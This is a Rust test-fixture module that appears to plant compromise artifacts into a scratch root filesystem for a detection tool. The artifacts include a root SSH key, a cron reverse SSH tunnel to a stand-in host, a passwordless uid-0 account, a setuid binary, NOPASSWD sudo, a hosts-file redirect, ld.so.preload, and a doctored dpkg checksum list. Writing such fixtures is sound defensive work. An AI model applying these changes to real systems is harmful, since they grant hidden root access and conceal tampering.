//! What is planted on one of the machines.
use super::fleet::{mode, program};
use crate::common::plant;
use std::os::unix::fs::symlink;
use std::path::Path;

/// A plant: its name, the word by which its difference is known, and what it does to a root.
pub(super) type Plant = (&'static str, &'static str, fn(&Path));

pub(super) fn append(root: &Path, path: &str, more: &str) {
    let path = root.join(path.trim_start_matches('/'));
    let old = std::fs::read_to_string(&path).unwrap();
    std::fs::write(path, old + more).unwrap();
}

pub(super) const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJkZmhqbHByc3V3eXoxMzU3OWFjZWdpa21vcXN1d3kx support@vendor\n";

pub(super) const PLANTS: &[Plant] = &[
    ("a key that lets in as root", "authorized", |root| {
        plant(root, &[("/root/.ssh/authorized_keys", KEY)]);
        mode(&root.join("root/.ssh/authorized_keys"), 0o600);
    }),
    ("a service with its program", "telemetry", |root| {
        let unit = "[Service]\nExecStart=/opt/telemetry/agent\n[Install]\nWantedBy=multi-user.target\n";
        plant(root, &[("/etc/systemd/system/telemetry.service", unit), ("/opt/telemetry/agent", "#!/bin/sh\n:\n")]);
        mode(&root.join("opt/telemetry/agent"), 0o755);
        symlink(
            "/etc/systemd/system/telemetry.service",
            root.join("etc/systemd/system/multi-user.target.wants/telemetry.service"),
        )
        .unwrap();
    }),
    ("a scheduled command", "/etc/cron.d/sync", |root| {
        plant(root, &[("/etc/cron.d/sync", "*/5 * * * * root ssh -N -R 2222:localhost:22 sync@203.0.113.5\n")]);
    }),
    ("a second account of root", "toor", |root| {
        append(root, "/etc/passwd", "toor:x:0:0::/root:/bin/sh\n");
        append(root, "/etc/shadow", "toor::19000:0:99999:7:::\n");
    }),
    ("another packaged program", "/usr/bin/spreader-helper", |root| {
        std::fs::write(root.join("usr/bin/spreader-helper"), program("sleep")).unwrap();
    }),
    ("a packaged program with root's rights", "4755", |root| mode(&root.join("usr/bin/spreader-helper"), 0o4755)),
    ("a route", "10.99.0.0", |root| {
        append(root, "/etc/network/interfaces", "    up ip route add 10.99.0.0/16 via 10.20.3.254\n");
    }),
    ("an opened packet filter", "4444", |root| {
        let path = root.join("etc/nftables.conf");
        let old = std::fs::read_to_string(&path).unwrap();
        std::fs::write(path, old.replace("tcp dport 22 accept", "tcp dport 22 accept\n  tcp dport 4444 accept"))
            .unwrap();
    }),
    ("a setting of sshd", "PermitRootLogin", |root| {
        plant(root, &[("/etc/ssh/sshd_config", "PermitRootLogin yes\n")]);
    }),
    ("a dial-up link", "/etc/ppp/peers/wan", |root| {
        plant(root, &[("/etc/ppp/peers/wan", "/dev/ttyUSB3\n115200\ndefaultroute\nuser m2m\n")]);
    }),
    ("a tunnel", "wg0", |root| {
        let conf = "[Interface]\nPrivateKey = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa=\n[Peer]\nEndpoint = 203.0.113.9:51820\nAllowedIPs = 0.0.0.0/0\n";
        plant(root, &[("/etc/wireguard/wg0.conf", conf)]);
    }),
    ("a program of no package", "/usr/local/bin/bridge", |root| {
        std::fs::create_dir_all(root.join("usr/local/bin")).unwrap();
        std::fs::write(root.join("usr/local/bin/bridge"), program("sleep")).unwrap();
        mode(&root.join("usr/local/bin/bridge"), 0o755);
    }),
    ("rights without a password", "/etc/sudoers.d/90-operator", |root| {
        plant(root, &[("/etc/sudoers.d/90-operator", "operator ALL=(ALL) NOPASSWD: ALL\n")]);
    }),
    ("a name that leads elsewhere", "203.0.113.7", |root| {
        append(root, "/etc/hosts", "203.0.113.7 deb.debian.org\n");
    }),
    ("a preloaded library", "ld.so.preload", |root| {
        plant(root, &[("/etc/ld.so.preload", "/usr/local/lib/libx.so\n")]);
    }),
    ("another packaged program, and its list made to fit", "/usr/bin/spreader-helper", |root| {
        let (at, list) = (root.join("usr/bin/spreader-helper"), root.join("var/lib/dpkg/info/spreader.md5sums"));
        let sum = |path: &Path| {
            let out = std::process::Command::new("md5sum").arg(path).output().unwrap();
            String::from_utf8(out.stdout).unwrap().split(' ').next().unwrap().to_owned()
        };
        let before = sum(&at);
        std::fs::write(&at, program("sleep")).unwrap();
        let text = std::fs::read_to_string(&list).unwrap();
        assert!(text.contains(&before), "{text}");
        std::fs::write(&list, text.replace(&before, &sum(&at))).unwrap();
    }),
];
/// Plants that rules speak of, and the word by which each finding names its own.
pub(super) const TEN: &[Plant] = &[
    ("a key that lets in as root", "SHA256:vPWSWNLh2DxIBRfkjCdKfLe9+bx6wi84pJGbJ3CvUSo", |root| (PLANTS[0].2)(root)),
    ("a scheduled command", "ssh -N -R 2222", |root| (PLANTS[2].2)(root)),
    ("a second account of root", "toor", |root| {
        append(root, "/etc/passwd", "toor:x:0:0::/nonexistent:/bin/sh\n");
        append(root, "/etc/shadow", "toor:*:19000:0:99999:7:::\n");
    }),
    ("an account without a password", "guest", |root| {
        append(root, "/etc/passwd", "guest:x:1001:1001::/home/guest:/bin/sh\n");
        append(root, "/etc/group", "guest:x:1001:\n");
        append(root, "/etc/shadow", "guest::19000:0:99999:7:::\n");
    }),
    ("another packaged program", "spreader", |root| (PLANTS[4].2)(root)),
    ("a setting of sshd", "PermitRootLogin yes", |root| (PLANTS[8].2)(root)),
    ("a dial-up link", "connection wan", |root| (PLANTS[9].2)(root)),
    ("a tunnel", "connection wg0", |root| (PLANTS[10].2)(root)),
    ("rights without a password", "operator", |root| (PLANTS[12].2)(root)),
    ("a preloaded library", "/etc/ld.so.preload", |root| (PLANTS[14].2)(root)),
];
